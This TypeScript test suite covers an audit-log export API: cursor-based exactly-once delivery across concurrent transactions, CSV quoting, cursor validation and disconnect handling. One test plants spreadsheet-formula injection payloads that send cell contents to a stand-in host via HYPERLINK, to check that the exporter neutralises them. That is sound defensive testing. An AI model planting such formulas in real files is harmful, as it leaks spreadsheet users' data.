/**
 * `GET /v1/audit/export`: every event exactly once from one cursor to the next, whatever the order of commits; cells
 * that no spreadsheet runs; memory that does not grow with the trail (contract section 8).
 */
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { get } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from 'node:test';
import pg from 'pg';
import { assertRefused, buildTestApp, errorOf, type TestApp } from '../../support/app.ts';
import { deferred } from '../../support/deferred.ts';
import { createTestDatabase, postgresSkip } from '../../support/postgres.ts';
import { microseconds, PLANT, type Planted, plant, type TrailRow } from './planted-events.ts';

const skip = postgresSkip;
const HEADER = [
  'id',
  'event_type',
  'actor_id',
  'actor_type',
  'resource_type',
  'resource_id',
  'metadata',
  'ip_address',
  'request_id',
  'created_at',
];

const MOMENT = '2026-01-01T00:00:00.000000Z';
const AN_ID = randomUUID();
/** Of the form `xmin:xmax:running,running` or nearly so, and no snapshot that a database would give. */
const NO_SNAPSHOTS = [
  '800',
  '800:805',
  ':805:',
  '800::',
  '::',
  '800:805:801:',
  '800:805:,',
  '800:805:801,',
  '800:805:,801',
  ' 800:805:',
  '800:805: 801',
  '800:805: ',
  'a:805:',
  '800:b:',
  '800:805:c',
  '0x320:805:',
  '8e2:805:',
  '0:805:',
  '0:0:',
  '-800:805:',
  '800:805:-801',
  '800.5:805:',
  '805:800:',
  '800:805:799',
  '800:805:805',
  '800:805:801,806',
  '800:805:803,801',
  '800:805:801,801',
  '800:800:800',
  `${'9'.repeat(30)}:${'9'.repeat(30)}:`,
  `800:${'9'.repeat(30)}:`,
  `800:805:${'0'.repeat(27)}801`,
];

const base64url = (text: string): string => Buffer.from(text).toString('base64url');

interface Exported {
  readonly events: readonly TrailRow[];
  readonly cursor: string;
}

function exporterOf({ call, adminKey }: TestApp) {
  const ask = (query: Record<string, string>, key = adminKey) =>
    call({ method: 'GET', url: `/v1/audit/export?${new URLSearchParams(query)}`, key });
  return {
    ask,
    read: async (query: Record<string, string> = {}): Promise<Exported> => {
      const { status, text, headers } = await ask({ format: 'jsonl', ...query });
      assert.equal(status, 200, text);
      return { events: eventsIn(text), cursor: headers['x-next-cursor'] ?? assert.fail('no cursor') };
    },
    cells: async (query: Record<string, string>): Promise<string[][]> => {
      const { status, text } = await ask({ format: 'csv', ...query });
      assert.equal(status, 200, text);
      return readCsv(text);
    },
  };
}

function eventsIn(text: string): TrailRow[] {
  assert.ok(text === '' || text.endsWith('\n'), 'the last line is whole');
  return text
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line) as TrailRow);
}

/** RFC 4180, to the letter: anything else throws. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  while (field.lastIndex < text.length) {
    const at = field.lastIndex;
    const [, quoted, plain = '', end] =
      field.exec(text) ?? assert.fail(`not RFC 4180: ${text.slice(at, at + 80)}`);
    row.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  assert.deepEqual(row, [], 'the last line is whole');
  return rows;
}

/** A connection of its own, whose transaction the test commits or rolls back. */
async function openTransaction(databaseUrl: string): Promise<{
  insert(event: Planted): Promise<void>;
  /** As the first change of a transaction does, without a change. */
  takeNumber(): Promise<void>;
  end(how: 'commit' | 'rollback'): Promise<void>;
}> {
  const client = new pg.Client({ connectionString: databaseUrl });
  client.on('error', () => undefined);
  await client.connect();
  await client.query('begin');
  return {
    insert: async (event) => void (await client.query(PLANT, [JSON.stringify([event])])),
    takeNumber: async () => void (await client.query('select pg_current_xact_id()')),
    end: async (how) => {
      await client.query(how);
      await client.end();
    },
  };
}

const namesOf = ({ events }: Exported) => events.map((event) => event.resource_id);

test('the export', { skip }, async (t) => {
  const app = await buildTestApp(t, {}, { lockMs: 250 });
  const { ask, read, cells } = exporterOf(app);

  await t.test('leaves one event, which is in the next export and not in its own', async () => {
    const first = await read();
    const next = await read({ cursor: first.cursor });
    assert.deepEqual(
      next.events.map(({ event_type, metadata }) => [event_type, metadata['filter'], metadata['format']]),
      [['audit.exported', {}, 'jsonl']],
    );
    assert.ok(!first.events.some(({ id }) => id === next.events[0]?.id));
    assert.equal((await read({ cursor: next.cursor })).events.length, 1);
  });

  await t.test('is oldest first, as lines of JSON or of CSV, and names where the next goes on', async () => {
    const offsets = [3, 1, 2, 0];
    await plant(
      app,
      offsets.map((n) => ({
        actor_id: 'order',
        resource_id: `order/${n}`,
        metadata: { n },
        ip_address: '2001:db8::1',
        request_id: null,
        created_at: microseconds('2026-03-01T00:00:00', n),
      })),
    );
    const jsonl = await ask({ format: 'jsonl', actor_id: 'order' });
    const csv = await ask({ format: 'csv', actor_id: 'order' });
    assert.equal(jsonl.headers['content-type'], 'application/x-ndjson');
    assert.equal(csv.headers['content-type'], 'text/csv; charset=utf-8; header=present');
    for (const { headers } of [jsonl, csv]) {
      assert.match(headers['x-next-cursor'] ?? '', /^[\w-]+$/);
      assert.match(headers['content-disposition'] ?? '', /^attachment; filename="audit\.(jsonl|csv)"$/);
      assert.equal(headers['cache-control'], 'no-store');
    }
    const events = eventsIn(jsonl.text);
    assert.deepEqual(
      events.map((event) => event.metadata['n']),
      [0, 1, 2, 3],
    );
    const [header, ...rows] = readCsv(csv.text);
    assert.deepEqual(header, HEADER);
    assert.deepEqual(
      rows,
      events.map((event) => [
        event.id,
        'secret.read',
        'order',
        'agent',
        'secret',
        event.resource_id,
        JSON.stringify(event.metadata),
        '2001:db8::1',
        '',
        event.created_at,
      ]),
    );
    const listed = await app.call<{ events: TrailRow[] }>({
      method: 'GET',
      url: '/v1/audit?actor_id=order',
      key: app.adminKey,
    });
    assert.deepEqual(listed.body.events.reverse(), events);
  });

  await t.test('of nothing is no line, and in CSV the header alone', async () => {
    assert.equal((await ask({ format: 'jsonl', actor_id: 'nobody' })).text, '');
    assert.equal((await ask({ format: 'csv', actor_id: 'nobody' })).text, `${HEADER.join(',')}\r\n`);
  });

  await t.test('takes the filters of the list', async () => {
    const facts = {
      event_type: 'token.issued',
      actor_id: 'filtered',
      resource_type: 'thing',
      resource_id: 'f/1',
    };
    const created_at = '2026-04-01T00:00:00Z';
    const others = Object.keys(facts).map((name) => ({ ...facts, [name]: 'other', created_at }));
    await plant(app, [
      { ...facts, created_at },
      ...others,
      { ...facts, created_at: '2026-03-31T23:59:59.999999Z' },
      { ...facts, created_at: '2026-04-01T00:00:01Z' },
    ]);
    const all = { ...facts, since: created_at, until: '2026-04-01T00:00:01Z' };
    const { events } = await read(all);
    assert.equal(events.length, 1);
    for (const left of Object.keys(all)) {
      const { [left as keyof typeof all]: _, ...query } = all;
      assert.equal((await read(query)).events.length, 2, `without ${left}`);
      assert.equal((await cells(query)).length, 3, `without ${left}, as CSV`);
    }
  });

  await t.test('is whole over many batches', async () => {
    const numbers = Array.from({ length: 3001 }, (_, n) => n);
    await plant(
      app,
      // Many of one moment, so that the borders of batches fall between equals.
      numbers.map((n) => ({
        actor_id: 'batches',
        resource_id: String(n),
        created_at: microseconds('2026-05-01T00:00:00', n % 3),
      })),
    );
    const names = namesOf(await read({ actor_id: 'batches' }));
    assert.deepEqual(
      names.map(Number).sort((a, b) => a - b),
      numbers,
    );
    const [header, ...rows] = await cells({ actor_id: 'batches' });
    assert.deepEqual(header, HEADER);
    assert.deepEqual(
      rows.map((row) => row[5]),
      names,
    );
  });

  await t.test('as CSV quotes what has to be quoted', async () => {
    const texts = [
      'a,b',
      'a"b',
      '"',
      '""',
      'a\nb',
      'a\r\nb',
      'a\rb',
      ' a ',
      'ü€😀',
      ',',
      '\n',
      'a;b',
      "it's",
    ];
    await plant(
      app,
      texts.map((resource_id, n) => ({
        actor_id: 'quoted',
        resource_id,
        metadata: { text: resource_id },
        created_at: microseconds('2026-06-01T00:00:00', n),
      })),
    );
    const [, ...rows] = await cells({ actor_id: 'quoted' });
    assert.deepEqual(
      rows.map((row) => [row.length, row[5], (JSON.parse(row[6] ?? '') as { text: string }).text]),
      texts.map((text) => [HEADER.length, text, text]),
    );
  });

  await t.test('as CSV has no cell that a spreadsheet takes for a formula', async () => {
    const openings = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
    const formulas = openings.map((opening) => `${opening}HYPERLINK("http://x.example?"&A1)`);
    await plant(
      app,
      formulas.map((text, n) => ({
        event_type: 'formula',
        actor_id: text,
        actor_type: text,
        resource_type: text,
        resource_id: text,
        ip_address: text,
        request_id: text,
        metadata: { text },
        created_at: microseconds('2026-07-01T00:00:00', n),
      })),
    );
    const raw = (await ask({ format: 'csv', event_type: 'formula' })).text;
    const [, ...rows] = readCsv(raw);
    assert.equal(rows.length, formulas.length);
    for (const [n, row] of rows.entries()) {
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r＝＋－＠]/u, JSON.stringify(cell));
      for (const column of [2, 3, 4, 5, 7, 8]) assert.equal(row[column], `'${formulas[n]}`);
      assert.deepEqual(JSON.parse(row[6] ?? ''), { text: formulas[n] });
    }
    // Lines of JSON are read by programs, so there nothing is added.
    const { events } = await read({ event_type: 'formula' });
    assert.deepEqual(
      events.map((event) => event.resource_id),
      formulas,
    );
  });

  await t.test('as CSV makes a secret’s path safe that begins like a formula', async () => {
    for (const path of ['=1+1/K', '+1/K', '-1/K', '@SUM/K']) {
      const url = `/v1/secrets/${path.split('/').map(encodeURIComponent).join('/')}`;
      const made = await app.call({ method: 'PUT', url, key: app.adminKey, json: { value: 'v' } });
      assert.equal(made.status, 201, made.text);
      assert.deepEqual((await cells({ resource_id: path }))[1]?.[5], `'${path}`);
    }
  });

  await t.test(
    'refuses another format, what lists alone take, and cursors that it did not give',
    async () => {
      const listed = await app.call<{ next_cursor: string }>({
        method: 'GET',
        url: '/v1/audit?limit=1',
        key: app.adminKey,
      });
      const cursors = [
        '!!!!',
        '',
        listed.body.next_cursor,
        ...[
          '',
          MOMENT,
          `${MOMENT} `,
          '800:805:',
          ...NO_SNAPSHOTS.map((snapshot) => `${MOMENT} ${snapshot}`),
          ...NO_SNAPSHOTS.map((snapshot) => `${AN_ID} ${MOMENT} ${snapshot}`),
          `${AN_ID.slice(1)} ${MOMENT} 800:805:`,
          `${AN_ID} 2026-02-30T00:00:00.000000Z 800:805:`,
          '2026-13-45T00:00:00.000000Z 800:805:',
          '2026-02-30T00:00:00.000000Z 800:805:',
          '2026-01-01T25:00:00.000000Z 800:805:',
          '2026-01-01T00:00:00Z 800:805:',
        ].map(base64url),
        'a'.repeat(8001),
      ];
      for (const query of [
        {},
        { format: '' },
        { format: 'JSONL' },
        { format: 'json' },
        { format: 'xlsx' },
        { format: 'csv', limit: '5' },
        { format: 'csv', page: '1' },
        { format: 'csv', since: '2026-02-30T00:00:00Z' },
        ...cursors.map((cursor) => ({ format: 'jsonl', cursor })),
      ] as Record<string, string>[]) {
        const cursor = Buffer.from(query['cursor'] ?? '', 'base64url').toString();
        const about = `${JSON.stringify(query)} ${cursor}`;
        assertRefused(await ask(query), { status: 400, code: 'VALIDATION_ERROR' }, about);
      }
    },
  );

  /** Epoch, moment and snapshot of a cursor that goes on from now. */
  const present = async () =>
    Buffer.from((await read({ actor_id: 'nobody' })).cursor, 'base64url')
      .toString()
      .split(' ');

  await t.test('goes on from a horizon at which nothing ran, something, or hundreds of others', async () => {
    const [epoch, , snapshot = ''] = await present();
    const end = Number(snapshot.split(':')[1]);
    assert.ok(end > 500, 'a server has had so many transactions before it takes one');
    const hundreds = Array.from({ length: 400 }, (_, n) => 3 + n).join(',');
    for (const before of ['400:400:', '400:405:', '400:405:400,403', `3:${end}:${hundreds}`]) {
      await read({ cursor: base64url(`${epoch} ${MOMENT} ${before}`) });
    }
  });

  await t.test('does not go on where it would leave events out, and says what to do', async () => {
    const [epoch, at, snapshot = ''] = await present();
    const end = BigInt(snapshot.split(':')[1] ?? '');
    for (const [what, cursor] of [
      ['of another history', `${AN_ID} ${at} ${snapshot}`],
      ['of a version that knew no epochs', `${at} ${snapshot}`],
      ['of a server that was taken back', `${epoch} ${at} ${end}:${end + 1_000_000n}:`],
    ] as const) {
      const refused = await ask({ format: 'jsonl', cursor: base64url(cursor) });
      assertRefused(refused, { status: 409, code: 'CURSOR_OUTDATED' }, what);
      assert.match(errorOf(refused).message ?? '', /Export without a cursor; `since` narrows it/);
      assert.equal(refused.headers['x-next-cursor'], undefined);
    }
  });

  for (const format of ['jsonl', 'csv']) {
    await t.test(`as ${format} that cannot begin to be read is a refusal and not an empty file`, async () => {
      const holder = new pg.Client({ connectionString: app.databaseUrl });
      await holder.connect();
      try {
        await holder.query('begin');
        await holder.query('lock table audit_events in access exclusive mode');
        const refused = await ask({ format });
        assertRefused(refused, { status: 503, code: 'BUSY' });
        const { 'x-next-cursor': cursor, 'content-disposition': disposition } = refused.headers;
        assert.deepEqual([cursor, disposition], [undefined, undefined], 'nothing of the export');
      } finally {
        await holder.end();
      }
      assert.equal((await ask({ format })).status, 200);
    });
  }
});

test('an event that commits late is in the next export, once, and holds none of the others back', {
  skip,
}, async (t) => {
  const app = await buildTestApp(t);
  const { read } = exporterOf(app);
  await plant(app, [{ resource_id: 'before' }]);
  const early = await openTransaction(app.databaseUrl);
  await early.insert({ resource_id: 'early' });
  await plant(app, [{ resource_id: 'after early' }]);
  const late = await openTransaction(app.databaseUrl);
  await late.insert({ resource_id: 'late' });
  await plant(app, [{ resource_id: 'after late' }]);

  const committed = ['before', 'after early', 'after late'];
  const first = await read({ actor_id: 'planted' });
  assert.deepEqual(namesOf(first), committed, 'all that was committed, whatever else runs');
  const again = await read({ actor_id: 'planted' });
  assert.deepEqual(namesOf(again), committed);
  await late.end('commit');
  const second = await read({ actor_id: 'planted', cursor: first.cursor });
  assert.deepEqual(namesOf(second), ['late']);
  await early.end('commit');
  const third = await read({ actor_id: 'planted', cursor: second.cursor });
  assert.deepEqual(namesOf(third), ['early'], 'although it lies before what others have had');
  const fourth = await read({ actor_id: 'planted', cursor: third.cursor });
  assert.deepEqual(namesOf(fourth), []);
  await plant(app, [{ resource_id: 'last' }]);
  assert.deepEqual(namesOf(await read({ actor_id: 'planted', cursor: fourth.cursor })), ['last']);
  // A cursor can be used again: whoever lost an answer asks once more.
  const repeated = await read({ actor_id: 'planted', cursor: first.cursor });
  assert.deepEqual(namesOf(repeated), ['early', 'late', 'last']);
});

test('a transaction that is rolled back leaves nothing in any export and holds none up', {
  skip,
}, async (t) => {
  const app = await buildTestApp(t);
  const { read } = exporterOf(app);
  const undone = await openTransaction(app.databaseUrl);
  await undone.insert({ resource_id: 'undone' });
  await plant(app, [{ resource_id: 'kept' }]);
  const during = await read({ actor_id: 'planted' });
  assert.deepEqual(namesOf(during), ['kept']);
  await undone.end('rollback');
  const after = await read({ actor_id: 'planted', cursor: during.cursor });
  assert.deepEqual(namesOf(after), []);
  await plant(app, [{ resource_id: 'next' }]);
  assert.deepEqual(namesOf(await read({ actor_id: 'planted', cursor: after.cursor })), ['next']);
  assert.deepEqual(namesOf(await read({ actor_id: 'planted' })), ['kept', 'next']);
});

test('a transaction left open in another database of the cluster holds nothing back and loses nothing', {
  skip,
}, async (t) => {
  const app = await buildTestApp(t);
  const { read } = exporterOf(app);
  const elsewhere = await openTransaction((await createTestDatabase(t)).url);
  await elsewhere.takeNumber();
  const minutesAgo = (minutes: number) => new Date(Date.now() - minutes * 60_000).toISOString();
  await plant(app, [{ resource_id: 'old', created_at: minutesAgo(90) }]);
  await plant(app, [{ resource_id: 'new' }]);

  const first = await read({ actor_id: 'planted' });
  assert.deepEqual(namesOf(first), ['old', 'new']);
  await plant(app, [{ resource_id: 'during' }]);
  const second = await read({ actor_id: 'planted', cursor: first.cursor });
  assert.deepEqual(namesOf(second), ['during']);
  await elsewhere.end('commit');
  await plant(app, [{ resource_id: 'after' }]);
  const third = await read({ actor_id: 'planted', cursor: second.cursor });
  assert.deepEqual(namesOf(third), ['after']);
  assert.deepEqual(namesOf(await read({ actor_id: 'planted', cursor: third.cursor })), []);
  const repeated = await read({ actor_id: 'planted', cursor: first.cursor });
  assert.deepEqual(namesOf(repeated), ['during', 'after']);
});

test('exports by cursor beside 50 writers have every event exactly once', { skip }, async (t) => {
  const app = await buildTestApp(t);
  const { read } = exporterOf(app);
  const EACH = 20;
  const clients = await Promise.all(
    Array.from({ length: 50 }, async () => {
      const client = new pg.Client({ connectionString: app.databaseUrl });
      client.on('error', () => undefined);
      await client.connect();
      return client;
    }),
  );
  t.after(() => Promise.all(clients.map((client) => client.end())));
  const committed = new Set<string>();
  let writing = true;
  const writers = clients.map(async (client, writer) => {
    for (let n = 0; n < EACH; n += 1) {
      const id = randomUUID();
      await client.query('begin');
      await client.query(PLANT, [JSON.stringify([{ id, actor_id: 'writers' }])]);
      // Commits overtake each other: some transactions do more between their event and their end.
      for (let more = (writer + n) % 4; more > 0; more -= 1) await client.query('select 1');
      const isUndone = (writer + n) % 7 === 0;
      await client.query(isUndone ? 'rollback' : 'commit');
      if (!isUndone) committed.add(id);
    }
  });
  const written = Promise.all(writers).finally(() => {
    writing = false;
  });
  const seen: string[] = [];
  let exports = 0;
  let cursor: string | undefined;
  const take = async (): Promise<void> => {
    const page = await read({ actor_id: 'writers', ...(cursor === undefined ? {} : { cursor }) });
    seen.push(...page.events.map((event) => event.id));
    cursor = page.cursor;
    exports += 1;
  };
  while (writing) await take();
  await written;
  await take();
  assert.ok(exports >= 3, `${exports} exports`);
  assert.equal(
    committed.size,
    50 * EACH -
      [...Array(50 * EACH).keys()].filter((k) => (Math.floor(k / EACH) + (k % EACH)) % 7 === 0).length,
  );
  assert.equal(new Set(seen).size, seen.length, 'an event came twice');
  assert.deepEqual([...seen].sort(), [...committed].sort());
});

test('an export whose reader goes away reads no further', { skip }, async (t) => {
  const app = await buildTestApp(t);
  await app.sql(
    `insert into audit_events (id, event_type, actor_id, actor_type, resource_type, resource_id, metadata)
     select gen_random_uuid(), 'secret.read', 'gone', 'agent', 'secret', repeat('x', 500), '{}'
     from generate_series(1, 20000)`,
  );
  await app.app.listen({ host: '127.0.0.1', port: 0 });
  const { port } = app.app.server.address() as AddressInfo;
  const url = `http://127.0.0.1:${port}/v1/audit/export?format=jsonl&actor_id=gone`;
  const closed = deferred();
  const fourth = deferred();
  const goOn = deferred();
  app.app.server.once('request', (_, response) => response.once('close', () => closed.resolve()));
  // The reader leaves while the fourth batch is being read.
  let batches = 0;
  const { query } = app.database;
  const counting: typeof query = async (statement, values) => {
    if (statement.name.startsWith('export_audit_events')) {
      batches += 1;
      if (batches === 4) {
        fourth.resolve();
        await goOn.promise;
      }
    }
    return query(statement, values);
  };
  Object.assign(app.database, { query: counting });
  const request = get(url, { headers: { 'x-api-key': app.adminKey } }, (answer) => {
    answer.on('error', () => undefined);
    answer.resume();
  });
  request.on('error', () => undefined);
  await fourth.promise;
  request.destroy();
  await closed.promise;
  goOn.resolve();
  // Four whole answers of the same server and database later it would have read on.
  for (let asked = 0; asked < 4; asked += 1) {
    const beside = await app.call({ method: 'GET', url: '/v1/audit?limit=200', key: app.adminKey });
    assert.equal(beside.status, 200);
  }
  assert.equal(batches, 4);
});
